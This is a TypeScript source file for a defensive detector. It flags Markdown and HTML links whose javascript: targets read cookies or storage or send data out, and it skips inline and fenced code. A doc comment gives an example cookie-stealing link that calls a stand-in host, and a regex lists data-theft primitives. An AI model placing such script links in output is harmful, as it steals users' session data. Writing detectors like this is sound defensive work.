import type { DetectorMatch } from '../../detector.js';
import { clip, MAX_MATCHES } from './find-phrases.js';
import { matchesIn } from './regex-matches.js';

/**
 * Links whose target is script (`[here](javascript:fetch('https://x/?c='+document.cookie))`):
 * a chat client that renders the Markdown runs it on a click, with the page's cookies and
 * storage in reach. Flagged when the script reads that data or sends anything out.
 */

/** A Markdown target runs to the `)` that closes the link: one followed by a space, punctuation or the end. */
const MARKDOWN_SCRIPT = /\]\(\s*<?(javascript:[^\n]{1,1000}?)(?=\)\s*(?:$|[\s.,;:!?]))/gi;
/** An HTML target runs to the quote that opened the attribute. */
const HREF_SCRIPT = /\bhref\s*=\s*(["'])\s*(javascript:[^\n]{1,1000}?)\1/gi;
const READS_OR_SENDS =
  /document\.cookie|localStorage|sessionStorage|indexedDB|fetch\s*\(|XMLHttpRequest|sendBeacon|new\s+Image\b|(?:window\.|document\.)?location(?:\.href)?\s*=|\.src\s*=/i;

/** Inside `inline code` (an odd number of backticks before it on its line) nothing renders as a link. */
function inCodeSpan(text: string, at: number): boolean {
  let ticks = 0;
  for (let i = at - 1; i >= 0 && text.charCodeAt(i) !== 10; i--) if (text.charCodeAt(i) === 96) ticks++;
  return ticks % 2 === 1;
}

/** A fence line: up to three spaces, then three or more backticks or tildes. */
const FENCE = /^ {0,3}(`{3,}|~{3,})/;

/**
 * The [start, end) ranges of fenced code blocks (CommonMark: a fence closes on a line that starts
 * with at least as many of the same character; an unclosed one runs to the end).
 */
function fencedBlocks(text: string): [number, number][] {
  const blocks: [number, number][] = [];
  let open: { start: number; fence: string } | null = null;
  for (let line = 0; line < text.length; ) {
    const newline = text.indexOf('\n', line);
    const end = newline === -1 ? text.length : newline;
    const fence = FENCE.exec(text.slice(line, Math.min(end, line + 200)))?.[1];
    if (fence && !open) open = { start: line, fence };
    else if (fence && open && fence[0] === open.fence[0] && fence.length >= open.fence.length) {
      blocks.push([open.start, end]);
      open = null;
    }
    line = end + 1;
  }
  if (open) blocks.push([open.start, text.length]);
  return blocks;
}

/**
 * A test of whether a position of `text` sits in Markdown code (inline or fenced), where nothing
 * renders as a link or as HTML. The fenced blocks are found once, on the first question.
 */
export function codeTest(text: string): (at: number) => boolean {
  let blocks: [number, number][] | null = null;
  return (at) => {
    if (inCodeSpan(text, at)) return true;
    blocks ??= text.includes('```') || text.includes('~~~') ? fencedBlocks(text) : [];
    return blocks.some(([start, end]) => at > start && at < end);
  };
}

export function findScriptLinks(text: string): DetectorMatch[] {
  const found: DetectorMatch[] = [];
  let inCode: ((at: number) => boolean) | null = null;
  const add = (target: string, start: number) => {
    if (found.length >= MAX_MATCHES || !READS_OR_SENDS.test(target)) return;
    inCode ??= codeTest(text);
    if (!inCode(start)) {
      found.push({ start, end: start + target.length, detail: `script link: "${clip(target)}"` });
    }
  };
  for (const m of matchesIn(MARKDOWN_SCRIPT, text)) {
    const target = m[1] ?? '';
    add(target, m.index + m[0].length - target.length);
  }
  for (const m of matchesIn(HREF_SCRIPT, text)) {
    const target = m[2] ?? '';
    add(target, m.index + m[0].length - 1 - target.length);
  }
  return found.sort((a, b) => a.start - b.start);
}
